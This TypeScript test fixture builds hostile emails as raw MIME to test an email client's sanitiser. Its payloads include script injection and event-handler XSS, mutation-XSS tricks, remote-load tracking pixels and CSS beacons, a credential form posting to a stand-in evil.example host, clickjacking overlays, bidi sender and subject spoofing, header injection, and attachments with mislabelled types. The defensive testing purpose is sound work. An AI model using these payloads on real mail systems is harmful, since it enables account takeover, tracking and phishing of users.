// Mails made to run, load, submit, cover or deceive. Whatever acts calls https://<technique>.evil.example or sets
// `pwned` on a window: both are what the test watches for. They come in as raw MIME, as strangers send them.

const ACT = 'window.top.pwned=1;window.pwned=1'
const enc = (text: string) => Buffer.from(text, 'utf8').toString('base64')

export interface HostileMail {
  /** Short name; also the host that it calls. */
  name: string
  /** HTML of the body, unless `mime` is the whole message after the usual headers. */
  html?: (evil: string) => string
  mime?: (evil: string) => string[]
  /** Headers in place of the usual ones. */
  headers?: Record<string, string>
  /** Asks only after consent: a picture from outside, of the kind that consent is for. */
  picture?: true
}

const html = (name: string, make: (evil: string) => string): HostileMail => ({ name, html: make })
const css = (name: string, rule: (evil: string) => string): HostileMail =>
  html(name, (evil) => `<style>${rule(evil)}</style><p class="x" id="x">styled ${name}</p>`)
const inline = (name: string, rule: (evil: string) => string): HostileMail =>
  html(name, (evil) => `<p style="${rule(evil).replaceAll('"', '&quot;')}">inline ${name}</p>`)

const SCRIPTS = [
  html('script', (evil) => `<script>${ACT}</script><script src="${evil}/a.js"></script>`),
  html('script-cased', (evil) => `<ScRiPt src=${evil}/a.js></sCrIpT><SCRIPT>${ACT}</SCRIPT>`),
  html('script-unclosed', () => `<p>one</p><script>${ACT}`),
  html('script-split', () => `<scr<script>ipt>${ACT}</scr</script>ipt><<script>${ACT}//<</script>`),
  html('script-module', (evil) => `<script type=module>import "${evil}/m.js";${ACT}</script>`),
  html('onerror', () => `<img src=x onerror="${ACT}"><image src=x onerror="${ACT}">`),
  html('onload-body', () => `</body><body onload="${ACT}" onpageshow="${ACT}"><p>x</p>`),
  html('ontoggle', () => `<details open ontoggle="${ACT}"><summary>x</summary></details>`),
  html('onfocus', () => `<input autofocus onfocus="${ACT}"><p tabindex=1 autofocus onfocus="${ACT}">x</p>`),
  html('onanimation', () => `<style>@keyframes a{}</style><p style="animation:a 1s" onanimationstart="${ACT}">x</p>`),
  html('onpointer', () => `<p onpointerenter="${ACT}" onmouseover="${ACT}" style="font-size:300px">cover</p>`),
  html('handler-slash', () => `<img/src="x"/onerror=${ACT}><svg/onload=${ACT}>`),
  html('svg-onload', () => `<svg onload="${ACT}"><animate onbegin="${ACT}" attributeName=x dur=1s></svg>`),
  html('svg-script', (evil) => `<svg><script href="${evil}/s.js"/><script>${ACT}</script></svg>`),
  html(
    'svg-foreign',
    () => `<svg><foreignObject><iframe srcdoc="<script>${ACT}</script>"></iframe></foreignObject></svg>`,
  ),
  html(
    'svg-image',
    (evil) => `<svg><image href="${evil}/i.png"/><use href="${evil}/u.svg#a"/><feImage href="${evil}/f.png"/></svg>`,
  ),
  html(
    'mathml',
    () => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ACT}&gt;">`,
  ),
  html(
    'mutation',
    () =>
      `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${ACT} src=1>"></textarea>`,
  ),
  html('noscript', () => `<noscript><p title="</noscript><img src=x onerror=${ACT}>"></noscript>`),
  html(
    'comment',
    () =>
      `<!--><script>${ACT}</script>--><!--[if true]><script>${ACT}</script><![endif]--><![CDATA[<script>${ACT}</script>]]>`,
  ),
  html('template', () => `<template shadowrootmode=open><script>${ACT}</script><img src=x onerror=${ACT}></template>`),
  html(
    'javascript-link',
    () => `<a href="javascript:${ACT}" style="font-size:80px">press</a><a href=" jav&#x09;ascript:${ACT}">b</a>`,
  ),
  html('data-link', () => `<a href="data:text/html;base64,${enc(`<script>${ACT}</script>`)}">open</a>`),
  html(
    'frame-script',
    () => `<iframe src="javascript:${ACT}"></iframe><iframe srcdoc="<script>${ACT}</script>"></iframe>`,
  ),
  html('nul-script', () => `<scr\u0000ipt>${ACT}</scr\u0000ipt><img src=x onerr\u0000or=${ACT}>`),
  html('attribute-break', () => `<img alt="&quot; onerror=${ACT} x=&quot;" title='"><script>${ACT}</script>' src=x>`),
  html(
    'style-break',
    () =>
      `<p style="font-family:'</style><script>${ACT}</script>'">x</p><style></style><img src=x onerror=${ACT}></style>`,
  ),
  html(
    'clobber',
    (evil) =>
      `<form name=body><input name=parentNode></form><a id=location href="${evil}">x</a><img name=cookie><div id=__next>x</div>`,
  ),
  html('angular', () => `<div ng-app>{{constructor.constructor('${ACT}')()}}</div><x-a is=script>${ACT}</x-a>`),
]

const LOADS = [
  html('base', (evil) => `<base href="${evil}/"><img src="logo.png"><a href="x">x</a>`),
  html(
    'link-style',
    (evil) => `<link rel=stylesheet href="${evil}/s.css"><link rel=preload as=image href="${evil}/p.png">`,
  ),
  html(
    'link-dns',
    (evil) =>
      `<link rel=dns-prefetch href="${evil}"><link rel=preconnect href="${evil}"><link rel=prefetch href="${evil}/x">`,
  ),
  html('meta-refresh', (evil) => `<meta http-equiv=refresh content="0;url=${evil}/r"><p>going</p>`),
  html('meta-csp', (evil) => `<meta http-equiv=Content-Security-Policy content="img-src *"><img src="${evil}/i.png">`),
  html('iframe', (evil) => `<iframe src="${evil}/f"></iframe><frameset><frame src="${evil}/g"></frameset>`),
  html(
    'object',
    (evil) =>
      `<object data="${evil}/o.pdf"></object><embed src="${evil}/e"><applet code=x archive="${evil}/a.jar"></applet>`,
  ),
  html(
    'video',
    (evil) =>
      `<video poster="${evil}/p.png" src="${evil}/v.mp4" autoplay></video><audio src="${evil}/a.mp3" autoplay></audio>`,
  ),
  html('track', (evil) => `<video><source src="${evil}/v.mp4"><track src="${evil}/t.vtt" default></video>`),
  html(
    'picture',
    (evil) => `<picture><source srcset="${evil}/w.webp"><img srcset="${evil}/1x.png 1x, ${evil}/2x.png 2x"></picture>`,
  ),
  html(
    'input-image',
    (evil) =>
      `<input type=image src="${evil}/i.png"><table background="${evil}/t.png"><tr><td background="${evil}/d.png">x`,
  ),
  html('body-background', (evil) => `</p><body background="${evil}/b.png"><p>x</p>`),
  html('pixel', (evil) => `<img src="${evil}/open.gif?who=alex" width=1 height=1>`),
  html(
    'pixel-protocol',
    (evil) => `<img src="${evil.replace('https:', '')}/p.gif"><img src="${evil.replace('https', 'HTTPS')}/q.gif">`,
  ),
  html('pixel-lowsrc', (evil) => `<img lowsrc="${evil}/l.gif" dynsrc="${evil}/d.avi" longdesc="${evil}/x" src="">`),
  html(
    'pixel-loopback',
    () =>
      '<img src="http://127.0.0.1:1/x"><img src="http://localhost:1/y"><img src="/api/export"><img src="/api/mail/list">',
  ),
  html('ping', (evil) => `<a href="https://example.com" ping="${evil}/ping">x</a>`),
  html(
    'form',
    (evil) =>
      `<form action="${evil}/login" method=post id=f><input name=user value=alex><button>Sign in</button></form>`,
  ),
  html(
    'form-get',
    (evil) => `<form action="/api/disconnect/1"><input type=submit formaction="${evil}" value="Go on"></form>`,
  ),
  css('css-import', (evil) => `@import "${evil}/i.css"; @import url(${evil}/j.css);`),
  css(
    'css-background',
    (evil) => `.x{background:url("${evil}/b.png")} body{background-image:image-set("${evil}/s.png" 1x)}`,
  ),
  css('css-font', (evil) => `@font-face{font-family:z;src:url(${evil}/f.woff)} .x{font-family:z}`),
  css('css-list', (evil) => `.x{display:list-item;list-style-image:url(${evil}/l.png);cursor:url(${evil}/c.cur),auto}`),
  css('css-content', (evil) => `.x::before{content:url(${evil}/c.png)} .x::after{content:attr(id)}`),
  css(
    'css-mask',
    (evil) => `.x{-webkit-mask:url(${evil}/m.svg);filter:url(${evil}/f.svg#a);border-image:url(${evil}/b.png) 1}`,
  ),
  css(
    'css-shape',
    (evil) => `.x{shape-outside:url(${evil}/s.png);clip-path:url(${evil}/c.svg#a);offset-path:url(${evil}/o.svg#p)}`,
  ),
  css('css-leak', (evil) => `[id^="x"]{background:url(${evil}/leak?x)} html:has(p){background:url(${evil}/has)}`),
  css('css-escape', (evil) => `.x{b\\61 ckground:u\\72l(${evil}/e.png)} .x{background:\\75\\72\\6c(${evil}/f.png)}`),
  css(
    'css-namespace',
    (evil) => `@namespace url(${evil}/n); @charset "utf-7"; @media all{.x{background:url(${evil}/m)}}`,
  ),
  inline('inline-background', (evil) => `background:url(${evil}/i.png)`),
  inline('inline-set', (evil) => `background-image:image-set(url(${evil}/i.png) 1x);content:url(${evil}/c.png)`),
  inline('inline-variable', (evil) => `--u:url(${evil}/v.png);background:var(--u)`),
  inline('inline-escape', (evil) => `b\\61 ckground:u\\rl(${evil}/e.png)`),
  inline(
    'inline-expression',
    (evil) => `width:expression(${ACT});behavior:url(${evil}/x.htc);-moz-binding:url(${evil}/x.xml#a)`,
  ),
]

const COVERS = [
  inline('cover-fixed', () => 'position:fixed;inset:0;z-index:2147483647;background:#fff'),
  html(
    'cover-link',
    (evil) =>
      `<a href="${evil}/c" style="position:absolute;top:-500px;left:-500px;width:9000px;height:9000px;opacity:0">.</a>`,
  ),
  css(
    'cover-sheet',
    () => '*{display:none!important} html,body,:root{position:fixed;inset:0;background:red!important;z-index:99999}',
  ),
  inline('cover-margin', () => 'margin:-9999px;padding:9999px;transform:scale(50)'),
  html('cover-tall', () => '<div style="height:9999px">tall</div>'.repeat(200)),
  html(
    'cover-dialog',
    () => '<dialog open style="position:fixed;inset:0">Your session has ended</dialog><p popover id=p>x</p>',
  ),
]

const DECEPTIONS: HostileMail[] = [
  {
    name: 'bidi-subject',
    html: () => '<p>x</p>',
    headers: { Subject: `=?utf-8?B?${enc('Invoice \u202Egpj.exe\u2066 ok')}?=` },
  },
  {
    name: 'bidi-sender',
    html: () => '<p>x</p>',
    headers: { From: `=?utf-8?B?${enc('\u202Etset.osotnoc@elda \u202D<adele@contoso.test>')}?= <x@evil.example>` },
  },
  {
    name: 'bidi-body',
    html: () =>
      '<p>\u202Edesrever si siht\u202C \u2066and <a href="https://evil.example">\u202Emoc.knab//:sptth</a></p><bdo dir=rtl>gro.knab</bdo>',
  },
  {
    name: 'html-subject',
    html: () => '<p>x</p>',
    headers: {
      Subject: `<img src=x onerror=${ACT}><script>${ACT}</script>`,
      From: `"<svg onload=${ACT}>" <x@evil.example>`,
    },
  },
  {
    name: 'header-injection',
    html: () => '<p>x</p>',
    headers: { Subject: `=?utf-8?B?${enc('a\r\nBcc: all@contoso.test\r\n\r\n<script>')}?=` },
  },
  {
    name: 'lookalike',
    html: (evil) =>
      `<a href="${evil}">https://login.microsoftonline.com/</a> <a href="https://user:pw@evil.example/">bank</a>`,
  },
]

const part = (type: string, name: string, content: string, more: string[] = []) => [
  '--b',
  `Content-Type: ${type}; name="${name}"`,
  `Content-Disposition: attachment; filename="${name}"`,
  'Content-Transfer-Encoding: base64',
  ...more,
  '',
  enc(content),
]
const mixed = (...parts: string[][]) => [
  'Content-Type: multipart/mixed; boundary=b',
  '',
  '--b',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<p>See the attachment.</p>',
  ...parts.flat(),
  '--b--',
  '',
]

const LIES: HostileMail[] = [
  { name: 'lie-png', mime: () => mixed(part('image/png', 'photo.png', `<html><script>${ACT}</script></html>`)) },
  {
    name: 'lie-svg',
    mime: (evil) =>
      mixed(
        part(
          'image/svg+xml',
          'logo.svg',
          `<svg xmlns="http://www.w3.org/2000/svg" onload="${ACT}"><image href="${evil}/x.png"/></svg>`,
        ),
      ),
  },
  { name: 'lie-pdf', mime: () => mixed(part('application/pdf', 'offer.pdf', `<html><script>${ACT}</script>`)) },
  {
    name: 'lie-name',
    mime: () => mixed(part('image/jpeg', '\u202Egpj.exe', 'MZ'), part('text/plain', '../../etc/passwd', 'x')),
  },
  { name: 'lie-text', mime: () => mixed(part('text/plain', 'notes.txt', `<script>${ACT}</script>`)) },
  {
    name: 'inline-html',
    mime: () => [
      'Content-Type: multipart/related; boundary=b',
      '',
      '--b',
      'Content-Type: text/html; charset=utf-8',
      '',
      '<p>Inline:</p><img src="cid:p@x"><iframe src="cid:p@x"></iframe><object data="cid:p@x"></object>',
      ...part('text/html', 'p.html', `<script>${ACT}</script>`, ['Content-ID: <p@x>']),
      '--b--',
      '',
    ],
  },
  {
    name: 'charset-utf7',
    mime: () => ['Content-Type: text/html; charset=utf-7', '', `+ADw-script+AD4-${ACT}+ADw-/script+AD4-<p>x</p>`, ''],
  },
  {
    name: 'alternative',
    mime: (evil) => [
      ...['Content-Type: multipart/alternative; boundary=b', '', '--b', 'Content-Type: text/plain', '', 'plain', '--b'],
      ...['Content-Type: text/html', '', `<img src="${evil}/a.gif"><script>${ACT}</script>`, '--b'],
      ...[
        'Content-Type: text/x-amp-html',
        '',
        `<html amp4email><amp-img src="${evil}/amp.png"></amp-img>`,
        '--b--',
        '',
      ],
    ],
  },
  {
    name: 'calendar',
    mime: (evil) => [
      ...[
        'Content-Type: text/calendar; method=REQUEST; charset=utf-8',
        '',
        'BEGIN:VCALENDAR',
        'METHOD:REQUEST',
        'BEGIN:VEVENT',
      ],
      ...[
        `SUMMARY:<img src=x onerror=${ACT}>`,
        `URL:javascript:${ACT}`,
        `X-ALT-DESC;FMTTYPE=text/html:<script src="${evil}/c.js">`,
      ],
      ...['DTSTART:20270101T100000Z', 'DTEND:20270101T110000Z', 'UID:x', 'END:VEVENT', 'END:VCALENDAR', ''],
    ],
  },
]

export const HOSTILE: readonly HostileMail[] = [...SCRIPTS, ...LOADS, ...COVERS, ...DECEPTIONS, ...LIES]

/** Each technique calls a host of its own, so that a request names it. */
export const evilOf = ({ name }: HostileMail): string => `https://${name}.evil.example`

/** The whole message as it travels. */
export function mimeOf(mail: HostileMail, subject: string): string {
  const headers = {
    From: 'Security Desk <desk@evil.example>',
    To: 'alex@contoso.test',
    Subject: subject,
    Date: new Date().toUTCString(),
    'Message-ID': `<${subject.replaceAll(' ', '.')}@evil.example>`,
    'MIME-Version': '1.0',
    ...mail.headers,
  }
  const evil = evilOf(mail)
  const rest = mail.mime?.(evil) ?? [
    ...['Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: base64', ''],
    enc(`<html><body>${mail.html?.(evil) ?? ''}</body></html>`),
    '',
  ]
  return [...Object.entries(headers).map(([name, value]) => `${name}: ${value}`), ...rest].join('\r\n')
}
